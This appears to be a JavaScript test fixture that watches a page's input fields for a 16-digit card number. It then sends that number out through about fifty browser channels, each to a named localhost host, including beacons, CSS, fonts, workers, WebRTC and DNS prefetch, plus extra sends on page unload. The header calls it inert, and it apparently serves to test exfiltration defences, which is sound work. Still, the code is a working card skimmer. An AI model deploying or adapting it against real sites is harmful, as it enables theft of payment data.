// Takes the card once it is complete and sends it on every way out of a browser that the author could think of, each to a host
// of its own that is named after the way and is on this machine. Inert: nobody listens there.
(() => {
  const port = location.port || 80;
  const hex = text => [...text].map(c => c.charCodeAt(0).toString(16)).join('');
  const element = (tag, set = {}, into = document.body) => {
    const e = document.createElement(tag);
    for (const [name, value] of Object.entries(set)) e.setAttribute(name, value);
    into.append(e);
    return e;
  };
  const blob = text => URL.createObjectURL(new Blob([text], {type: 'text/javascript'}));
  const ways = {
    fetch: to => fetch(to, {mode: 'no-cors'}),
    xhr: to => { const x = new XMLHttpRequest(); x.open('POST', to); x.send('x'); },
    image: to => { new Image().src = to; },
    srcset: to => element('img', {srcset: to + ' 1x'}),
    picture: to => { element('video', {poster: to}); },
    video: to => { element('video', {src: to, preload: 'auto'}); },
    audio: to => { new Audio(to).load(); },
    track: to => { const v = element('video', {crossorigin: 'anonymous'}); element('track', {src: to, default: '', kind: 'subtitles'}, v).track.mode = 'hidden'; },
    object: to => element('object', {data: to, type: 'text/html'}),
    embed: to => element('embed', {src: to, type: 'text/html'}),
    svg: to => { document.body.insertAdjacentHTML('beforeend', `<svg width="9" height="9"><image width="9" height="9" href="${to}"></image></svg>`); },
    button: to => element('input', {type: 'image', src: to}),
    font: to => new FontFace('stolen', `url("${to}")`).load().catch(() => {}),
    style: to => element('link', {rel: 'stylesheet', href: to}),
    imported: to => { element('style').textContent = `@import url("${to}");`; },
    background: to => { element('div').style.background = `url("${to}")`; },
    property: to => { element('style').textContent = `:root { --loot: url("${to}") } body::after { content: ""; background: var(--loot) }`; },
    selector: (to, card) => { element('i', {'data-loot': card}); element('style').textContent = `body:has([data-loot^="${card.slice(0, 1)}"]) main, body { border-image: url("${to}") }`; },
    script: to => { const s = document.createElement('script'); s.src = to; document.body.append(s); },
    module: to => { import(to).catch(() => {}); },
    modulepreload: to => element('link', {rel: 'modulepreload', href: to}),
    preload: to => element('link', {rel: 'preload', as: 'image', href: to}),
    prefetch: to => element('link', {rel: 'prefetch', href: to}),
    icon: to => element('link', {rel: 'icon', href: to}, document.head),
    manifest: to => element('link', {rel: 'manifest', href: to}, document.head),
    frame: to => element('iframe', {src: to}),
    form: to => {
      element('iframe', {name: 'hole', hidden: ''});
      const f = element('form', {method: 'post', action: to, target: 'hole'});
      element('input', {name: 'x', value: '1', type: 'hidden'}, f);
      f.submit();
    },
    ping: to => { const a = element('a', {href: '#', ping: to}); a.click(); },
    beacon: to => navigator.sendBeacon(to, 'x'),
    eventsource: to => { new EventSource(to); },
    socket: to => { new WebSocket(to.replace(/^http/, 'ws')); },
    worker: to => { new Worker(blob(`fetch(${JSON.stringify(to)}, {mode: 'no-cors'})`)); },
    nested: to => { new Worker(blob(`new Worker(URL.createObjectURL(new Blob([${JSON.stringify(`fetch(${JSON.stringify(to)}, {mode: 'no-cors'})`)}])))`)); },
    shared: to => { new SharedWorker(blob(`fetch(${JSON.stringify(to)}, {mode: 'no-cors'})`)); },
    importscripts: to => { new Worker(blob(`try { importScripts(${JSON.stringify(to)}) } catch {}`)); },
    workersocket: to => { new Worker(blob(`new WebSocket(${JSON.stringify(to.replace(/^http/, 'ws'))})`)); },
    service: async to => {
      const r = await navigator.serviceWorker.register('/assets/js/ways-worker.js');
      await new Promise(done => { const look = () => r.active ? done() : setTimeout(look, 10); look(); });
      r.active.postMessage(to);
    },
    fresh: to => { const f = element('iframe', {}); f.contentWindow.fetch(to, {mode: 'no-cors'}); },
    transport: to => { new WebTransport(to.replace(/^http:/, 'https:')).ready.catch(() => {}); },
    payment: to => { new PaymentRequest([{supportedMethods: to.replace(/^http:/, 'https:')}], {total: {label: 'x', amount: {currency: 'JPY', value: '1'}}}).canMakePayment().catch(() => {}); },
    federated: to => { navigator.credentials.get({identity: {providers: [{configURL: to.replace(/^http:/, 'https:'), clientId: 'x'}]}}).catch(() => {}); },
    speculation: to => { const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({prefetch: [{urls: [to], eagerness: 'immediate'}]}); document.head.append(s); },
    attribution: to => document.featurePolicy.features().includes('attribution-reporting') ? element('img', {attributionsrc: to}) : fetch(to, {mode: 'no-cors'}), // browsers are giving it up
    turn: (to, card) => { const p = new RTCPeerConnection({iceServers: [{urls: 'turn:turn.localhost:' + port, username: hex(card), credential: 'x'}]}); p.createDataChannel('x'); p.setLocalDescription(); },
    munged: async (to, card) => {
      const p = new RTCPeerConnection();
      p.createDataChannel('x');
      const offer = await p.createOffer();
      await p.setLocalDescription({type: 'offer', sdp: offer.sdp.replace(/a=ice-ufrag:.*/g, 'a=ice-ufrag:' + hex(card))});
      const remote = offer.sdp.replace(/a=setup:.*/g, 'a=setup:passive').replace(/a=ice-ufrag:.*/g, 'a=ice-ufrag:them').replace(/a=ice-pwd:.*/g, 'a=ice-pwd:themthemthemthemthemthem').replace(/a=fingerprint:sha-256 ../, 'a=fingerprint:sha-256 00');
      await p.setRemoteDescription({type: 'answer', sdp: remote});
      await p.addIceCandidate({candidate: 'candidate:1 1 udp 2122260223 127.0.0.1 9 typ host', sdpMid: '0', sdpMLineIndex: 0});
    },
    lookup: (to, card) => element('link', {rel: 'dns-prefetch', href: `//${hex(card)}.lookup.localhost`}),
    preconnect: (to, card) => element('link', {rel: 'preconnect', href: `//${hex(card)}.preconnect.localhost`}),
    anchor: (to, card) => element('a', {href: `//${hex(card)}.anchor.localhost`}),
  };
  const late = {
    hidebeacon: to => navigator.sendBeacon(to, 'x'),
    hidekeepalive: to => fetch(to, {keepalive: true, mode: 'no-cors', method: 'POST', body: 'x'}),
    hideimage: to => { new Image().src = to; },
  };
  let taken = '';
  const failed = [];
  const run = (list, card) => {
    for (const [name, way] of Object.entries(list)) {
      try {
        Promise.resolve(way(`http://${name}.localhost:${port}/x?c=${btoa(card)}`, card)).catch(e => failed.push(name + ': ' + e));
      } catch (e) {
        failed.push(name + ': ' + e);
      }
    }
  };
  const card = () => [...document.querySelectorAll('input')].map(i => i.value.replace(/\D/g, '')).find(v => v.length === 16);
  setInterval(() => {
    const number = card();
    if (!number || taken) return;
    taken = number;
    run(ways, number);
    if (self.fetchLater) fetchLater(`http://later.localhost:${port}/x?c=${btoa(number)}`);
    setTimeout(() => { if (failed.length) fetch('/ways-failed?' + encodeURIComponent(failed.join(' | '))); }, 500);
  }, 100);
  addEventListener('pagehide', () => { if (taken) run(late, taken); });
  addEventListener('visibilitychange', () => { if (taken) navigator.sendBeacon(`http://hidden.localhost:${port}/x?c=${btoa(taken)}`); });
  addEventListener('unload', () => { if (taken) navigator.sendBeacon(`http://unload.localhost:${port}/x?c=${btoa(taken)}`); });
})();
